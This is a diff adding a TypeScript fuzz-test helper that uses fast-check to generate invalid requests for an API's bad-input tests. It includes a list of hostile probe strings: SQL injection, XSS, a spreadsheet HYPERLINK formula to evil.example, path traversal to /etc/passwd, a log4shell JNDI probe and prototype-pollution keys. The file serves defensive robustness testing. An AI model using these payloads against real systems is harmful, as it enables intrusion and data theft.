@@ -1,0 +1,261 @@
+/**
+ * The invalid requests of the bad-input proof (bad-input.test.ts): hostile values, and for each route its valid
+ * request (route-cases.ts) mutated by fast-check — body fields, path parameters, query values, uploads.
+ */
+import type { RouteDef } from '@argo/contract';
+import fc from 'fast-check';
+import { multipart } from '../workers';
+import type { Request } from './route-cases';
+
+// ------------------------------------------------------------------ hostile values
+
+const deep = (depth: number): unknown => {
+  let value: unknown = 'bottom';
+  for (let i = 0; i < depth; i++) value = i % 2 ? [value] : { a: value };
+  return value;
+};
+export const HOSTILE_STRINGS = [
+  "' OR '1'='1' --",
+  "'; DROP TABLE businesses; --",
+  '"); select pg_sleep(5); --',
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  'javascript:alert(1)',
+  '[x](javascript:alert(1))',
+  '=HYPERLINK("http://evil.example")',
+  '\u0000',
+  '\ud800',
+  '\u202e\u0645\u0631\u062d\u0628\u0627',
+  '\u200b\u200c\u200d\ufeff',
+  'Z̷̡̛̤a̸̢̛l̶̨̛g̵̡̛ơ̷̧',
+  '👩‍👩‍👧‍👦🏳️‍🌈',
+  '../../../../etc/passwd',
+  '%00%2e%2e%2f',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell probe, on purpose
+  '${jndi:ldap://x}',
+  '{{7*7}}',
+  '__proto__',
+  'constructor',
+];
+const hugeString = fc.integer({ min: 10_000, max: 200_000 }).map((n) => 'x'.repeat(n));
+const hostileString = fc.oneof(
+  fc.constantFrom(...HOSTILE_STRINGS),
+  fc.string({ unit: 'binary', maxLength: 50 }),
+);
+const badValue: fc.Arbitrary<unknown> = fc.oneof(
+  fc.anything({ maxDepth: 2, withNullPrototype: true, withBigInt: false }),
+  hostileString,
+  hugeString,
+  fc.integer({ min: 50, max: 3_000 }).map(deep),
+  fc.constantFrom(null, true, false, -1, 0, 1e308, -1e308, Number.MAX_SAFE_INTEGER + 2, 1.5, [], {}),
+);
+
+/** Every key path of a JSON value (objects and arrays), for picking what to break. */
+export function keyPaths(value: unknown, prefix: (string | number)[] = [], out: (string | number)[][] = []) {
+  if (value && typeof value === 'object') {
+    for (const [key, child] of Object.entries(value)) {
+      const path = [...prefix, Array.isArray(value) ? Number(key) : key];
+      out.push(path);
+      keyPaths(child, path, out);
+    }
+  }
+  return out;
+}
+
+export function setPath(root: unknown, path: (string | number)[], value: unknown, remove = false): unknown {
+  if (path.length === 0) return value;
+  const copy = (Array.isArray(root) ? [...root] : { ...(root as Record<string, unknown>) }) as Record<
+    string | number,
+    unknown
+  >;
+  const [head, ...rest] = path as [string | number, ...(string | number)[]];
+  if (rest.length === 0) {
+    if (remove) delete copy[head];
+    else copy[head] = value;
+  } else {
+    copy[head] = setPath(copy[head], rest, value, remove);
+  }
+  return copy;
+}
+
+/** What one generated request is: a JSON body, a raw body with a content type, or a changed path or query. */
+export interface Attempt {
+  kind: string;
+  path: string;
+  query?: Record<string, string>;
+  body?: unknown;
+  headers?: Record<string, string>;
+}
+
+export function jsonBodyAttempts(route: RouteDef, base: Request): fc.Arbitrary<Attempt> {
+  const paths = keyPaths(base.body);
+  const schema = route.body as NonNullable<RouteDef['body']>;
+  const asJson = (body: unknown, kind: string): Attempt => ({
+    kind,
+    path: base.path,
+    body,
+    query: base.query,
+  });
+  const mutateOnce = paths.length
+    ? fc
+        .tuple(fc.constantFrom(...paths), badValue, fc.boolean())
+        .map(([at, value, remove]) => ({ at, value, remove }))
+    : fc.constant(null);
+  const mutated = fc.array(mutateOnce, { minLength: 1, maxLength: 3 }).map((changes) => {
+    let body = base.body;
+    for (const change of changes) if (change) body = setPath(body, change.at, change.value, change.remove);
+    return asJson(body, 'mutated body');
+  });
+  const wholeBody = badValue.map((body) => asJson(body, 'body of the wrong kind'));
+  const text = JSON.stringify(base.body ?? {});
+  const malformed = fc
+    .oneof(
+      fc.integer({ min: 1, max: Math.max(1, text.length - 1) }).map((cut) => text.slice(0, cut)),
+      fc.constantFrom(
+        '{',
+        '{"a":}',
+        "{'a': 1}",
+        '{a:1}',
+        '[1,]',
+        'nul',
+        '\u0000',
+        '{"a":1}}',
+        '{"__proto__":{"x":1}',
+      ),
+    )
+    .map((raw) => ({
+      kind: 'malformed JSON',
+      path: base.path,
+      body: raw,
+      headers: { 'content-type': 'application/json' },
+    }));
+  const wrongType = fc
+    .constantFrom('text/plain', 'application/xml', 'application/x-www-form-urlencoded', 'image/png')
+    .map((type) => ({
+      kind: 'wrong content type',
+      path: base.path,
+      body: type === 'application/x-www-form-urlencoded' ? 'name=x&a=1' : text,
+      headers: { 'content-type': type },
+    }));
+  return (
+    fc
+      .oneof(
+        { weight: 6, arbitrary: mutated },
+        { weight: 2, arbitrary: wholeBody },
+        { weight: 1, arbitrary: malformed },
+        { weight: 1, arbitrary: wrongType },
+      )
+      // Judge what travels: JSON drops `undefined` and turns NaN into null.
+      .map((attempt) =>
+        typeof attempt.body === 'string' || attempt.body === undefined
+          ? attempt
+          : { ...attempt, body: JSON.parse(JSON.stringify(attempt.body) ?? 'null') },
+      )
+      .filter((attempt) => typeof attempt.body === 'string' || !schema.safeParse(attempt.body).success)
+  );
+}
+
+export function paramAttempts(route: RouteDef, base: Request): fc.Arbitrary<Attempt> | null {
+  if (!route.params) return null;
+  const ids = base.path.match(/[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}/g);
+  if (!ids?.length) return null;
+  const badId = fc.oneof(
+    hostileString,
+    fc.string({ minLength: 1, maxLength: 40 }),
+    fc.constantFrom(
+      '0',
+      '-1',
+      'null',
+      'undefined',
+      '00000000-0000-0000-0000-00000000000g',
+      'x'.repeat(5_000),
+    ),
+  );
+  const encode = (id: string) => {
+    try {
+      return encodeURIComponent(id);
+    } catch {
+      return ''; // a lone surrogate cannot travel in a URL at all
+    }
+  };
+  return badId
+    .map(encode)
+    .filter(
+      (id) => id.length > 0 && !(route.params as NonNullable<RouteDef['params']>).safeParse({ id }).success,
+    )
+    .map((id) => ({
+      kind: 'invalid id',
+      path: base.path.replace(ids[0] as string, id),
+      query: base.query,
+      body: base.body,
+      headers: base.headers,
+    }));
+}
+
+export function queryAttempts(route: RouteDef, base: Request): fc.Arbitrary<Attempt> | null {
+  if (!route.query) return null;
+  const schema = route.query as NonNullable<RouteDef['query']>;
+  const shape = (schema as unknown as { shape?: Record<string, unknown> }).shape;
+  const keys = Object.keys(shape ?? {});
+  if (!keys.length) return null;
+  const value = fc.oneof(
+    hostileString,
+    hugeString,
+    fc.constantFrom('-1', '1e9', 'NaN', 'Infinity', '0x10', '1.5', '', '{', '{"nope":1}', '[]', 'true'),
+  );
+  return fc
+    .dictionary(fc.constantFrom(...keys), value, { minKeys: 1, maxKeys: 3 })
+    .map((changes) => ({ ...(base.query ?? {}), ...changes }))
+    .filter((query) => !schema.safeParse(query).success)
+    .map((query) => ({
+      kind: 'invalid query',
+      path: base.path,
+      query,
+      body: base.body,
+      headers: base.headers,
+    }));
+}
+
+export function uploadAttempts(base: Request): fc.Arbitrary<Attempt> {
+  const part = (data: Buffer | string, fields: Record<string, string> = {}, field = 'file') => {
+    const form = multipart(fields, { field, name: 'upload.csv', data });
+    return { path: base.path, body: form.body, headers: form.headers };
+  };
+  return fc.oneof(
+    fc.constant({
+      kind: 'no file',
+      ...(() => {
+        const form = multipart({ name: 'x' }, null);
+        return { path: base.path, body: form.body, headers: form.headers };
+      })(),
+    }),
+    fc.constant({ kind: 'empty file', ...part('') }),
+    fc.uint8Array({ minLength: 1, maxLength: 2_000 }).map((bytes) => ({
+      kind: 'binary file',
+      ...part(Buffer.concat([Buffer.from([0, 0xff, 0xfe, 0]), Buffer.from(bytes)])),
+    })),
+    fc.constant({ kind: 'header only', ...part('name,website\n') }),
+    hostileString.map((name) => ({
+      kind: 'wrong field name',
+      ...part('name\nA\n', {}, name.slice(0, 20) || 'f'),
+    })),
+    badValue
+      // A blank form field means "not given" (no venture), which is allowed.
+      .filter((venture) => !(typeof venture === 'string' && venture.trim() === ''))
+      .map((venture) => ({
+        kind: 'invalid venture id',
+        ...part('name\nA\n', {
+          venture_id:
+            typeof venture === 'string'
+              ? venture.slice(0, 200)
+              : (JSON.stringify(venture)?.slice(0, 200) ?? 'x'),
+        }),
+      })),
+    fc.constantFrom('application/json', 'text/plain', 'multipart/form-data').map((type) => ({
+      kind: 'not multipart',
+      path: base.path,
+      body: '{"name":"x"}',
+      headers: { 'content-type': type },
+    })),
+  ) as fc.Arbitrary<Attempt>;
+}
